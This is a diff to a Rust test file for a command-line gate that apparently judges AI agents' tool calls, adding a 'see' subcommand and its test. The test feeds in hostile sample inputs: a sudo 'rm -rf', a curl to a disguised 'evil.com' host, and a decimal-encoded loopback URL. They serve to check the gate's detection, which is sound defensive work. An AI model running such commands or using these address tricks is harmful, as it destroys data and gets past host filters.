@@ -446,6 +446,7 @@ fn help_shows_each_command_with_an_example() {
         ("check", "Judge one call"),
         ("gate", "Judge calls from stdin"),
         ("explain", "Play calls and say why each verdict"),
+        ("see", "Show what the gate sees in a call"),
         ("graph", "Draw the nets of a policy"),
         ("completions", "Print completions for a shell"),
     ] {
@@ -464,6 +465,7 @@ fn help_shows_each_command_with_an_example() {
       check        Judge one call
       gate         Judge calls from stdin: one JSON object a line in, one a line out
       explain      Play calls and say why each verdict, net by net
+      see          Show what the gate sees in a call
       graph        Draw the nets of a policy
       completions  Print completions for a shell
       help         Print this message or the help of the given subcommand(s)
@@ -512,4 +514,36 @@ fn help_shows_each_command_with_an_example() {
     Lines: call, result, answer, session, net, halt, resume, status.
     Exit 0, or 2 if any line was not understood.
     "#);
+}
+
+#[test]
+fn see_shows_commands_paths_hosts_deeds_and_doubts() {
+    let command = "cd /srv && sudo rm -rf data; curl -s https://good.com@evil.com/x > out; $tool --all";
+    let input = serde_json::json!({ "command": command }).to_string();
+    let rules = example("ops.rules");
+    let seen = lockgate(&["see", &rules, "--tool", "bash", "--cwd", "/home/me", "--input", &input], "");
+    assert_eq!(seen.status.code(), Some(1), "a doubt");
+    insta::assert_snapshot!(out(&seen), @"
+    bash
+        runs   cd /srv
+                 rm -rf data  in sudo; perhaps
+               curl -s https://good.com@evil.com/x  writes out
+               $tool --all  opaque  perhaps
+        paths  reads /srv
+               writes /home/me/data or /srv/data
+               writes /home/me/out or /srv/out
+        hosts  evil.com (a name)
+        deeds  perhaps `backup`, perhaps `delete`, perhaps `bash`, `delete`, which
+               no success proves
+        doubt  the program `$tool` is known only when the script runs
+        doubt  the script in `command` may do more than can be read in it
+    ");
+
+    let clear =
+        lockgate(&["see", "--tool", "fetch", "--input", r#"{"url": "http://2130706433/"}"#, "--json"], "");
+    assert_eq!(clear.status.code(), Some(0));
+    insta::assert_snapshot!(out(&clear), @r#"{"tool":"fetch","scripts":[],"paths":[],"hosts":[{"text":"http://2130706433/","guess":false,"host":"127.0.0.1","reach":"this machine"}],"doubts":[]}"#);
+
+    let wrong = lockgate(&["see", "--tool", "bash", "--input", "[1]"], "");
+    assert_eq!(wrong.status.code(), Some(2));
 }
